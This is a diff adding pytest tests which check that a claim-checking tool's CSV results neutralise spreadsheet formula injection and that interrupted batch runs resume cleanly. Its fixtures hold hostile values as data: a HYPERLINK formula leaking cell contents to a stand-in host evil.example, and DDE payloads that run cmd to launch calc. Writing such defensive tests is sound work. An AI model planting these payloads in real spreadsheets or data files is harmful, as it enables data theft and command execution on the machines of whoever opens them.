@@ -185,6 +185,79 @@ def test_a_record_torn_by_a_kill_is_dropped_and_redone(fake_index, tmp_path, fmt
     assert summary.torn_dropped and out.read_bytes() == expected
 
 
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def formula_index(tmp_path):
+    """An index whose one statement's text, id, source and URL are spreadsheet formulas."""
+    corpus = tmp_path / "corpus.jsonl"
+    corpus.write_text(json.dumps({"id": "@s1", "text": EVIL + " Afghan troops fled into Tajikistan.",
+                                  "source": "+cmd|' /C calc'!A0", "url": "-2+3+cmd|' /C calc'!A0"}) + "\n")
+    path = tmp_path / "idx"
+    Verifier.build(path, [corpus], encoder=FakeEncoder())
+    return path
+
+
+def formula_claims(path):
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows([["id", "claim", EVIL, "note"]] + [
+            [f"=id{i}", f"{EVIL} Afghan troops fled {i}", f"@SUM({i})", f"-{i}"] for i in range(9)
+        ] + [["-3", "+1 Afghan troops fled", "\tx", "\rcarried"], ["@bad", "", "", ""], ["", "-2 troops fled", "", ""]])
+    return path
+
+
+def test_csv_results_neutralise_formulas_in_every_text_cell_and_jsonl_keeps_them_verbatim(formula_index, tmp_path):
+    claims = formula_claims(tmp_path / "claims.csv")
+    run_batch(fake(formula_index), claims, tmp_path / "out.csv")
+    run_batch(fake(formula_index), claims, tmp_path / "out.jsonl")
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
+        header, *rows = list(csv.reader(fh))
+    assert header[-2:] == ["'" + EVIL, "note"]
+    numbers = {"confidence", "top_score", "line"}
+    for row in rows:
+        for name, cell in zip(header, row):
+            assert name in numbers or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    first = dict(zip(header, rows[0]))
+    assert first["id"] == "'=id0" and first["claim"] == f"'{EVIL} Afghan troops fled 0" and first["note"] == "'-0"
+    assert first["top_statement_id"] == "'@s1" and first["top_statement"].startswith("'" + EVIL)
+    assert first["top_source"] == "'+cmd|' /C calc'!A0" and first["top_url"] == "'-2+3+cmd|' /C calc'!A0"
+    assert [dict(zip(header, r))["id"] for r in rows[-3:]] == ["'-3", "'@bad", ""]
+    records = jsonl_lines(tmp_path / "out.jsonl")
+    assert records[0]["id"] == "=id0" and records[0]["claim"] == f"{EVIL} Afghan troops fled 0"
+    assert records[0]["extra"] == {EVIL: "@SUM(0)", "note": "-0"}
+    assert records[0]["evidence"][0]["statement"]["source"] == "+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_run_with_formula_cells_resumes_to_the_same_results_file(formula_index, tmp_path, fmt):
+    claims = formula_claims(tmp_path / "claims.csv")
+    expected = uninterrupted(formula_index, claims, tmp_path / f"expected.{fmt}")
+    out = tmp_path / f"out.{fmt}"
+    with pytest.raises(KeyboardInterrupt):
+        run_batch(fake(formula_index, FakeEncoder(fail_after=5), batch_chunk_size=4), claims, out)
+    kept = out.read_bytes()
+    assert 0 < len(kept) < len(expected) and expected.startswith(kept)
+    summary = run_batch(fake(formula_index, batch_chunk_size=4), claims, out)
+    assert out.read_bytes() == expected and summary.resumed > 0 and summary.total == 12
+    again = run_batch(fake(formula_index, batch_chunk_size=4), claims, out)  # complete: nothing left to check
+    assert (again.resumed, again.checked, again.failed) == (12, 0, 1) and out.read_bytes() == expected
+    assert again.failures == [{"line": 13, "key": "@bad", "error": again.failures[0]["error"]}]
+    # An input edited under the results file is still told apart.
+    lines = claims.read_text(encoding="utf-8").splitlines(keepends=True)
+    claims.write_text("".join(lines[:2] + [lines[2].replace("=id1", "=id1x", 1)] + lines[3:]), encoding="utf-8")
+    with pytest.raises(ResumeError, match="the input changed"):
+        run_batch(fake(formula_index, batch_chunk_size=4), claims, out)
+
+
+def test_cli_batch_csv_output_neutralises_formulas(fake_cli, formula_index, tmp_path):
+    claims = formula_claims(tmp_path / "claims.csv")
+    result = invoke("batch", claims, "--index", formula_index, "--out", tmp_path / "x.csv")
+    assert result.exit_code == 1, result.output  # the empty claim
+    text = (tmp_path / "x.csv").read_text(encoding="utf-8")
+    assert "'" + EVIL.replace('"', '""') in text and "\n=" not in text and ",=" not in text and ',"=' not in text
+
+
 def test_a_results_file_edited_in_the_middle_is_refused_and_left_alone(fake_index, tmp_path):
     claims = write_claims(tmp_path / "claims.txt", "txt", CLAIMS)
     out = tmp_path / "out.jsonl"
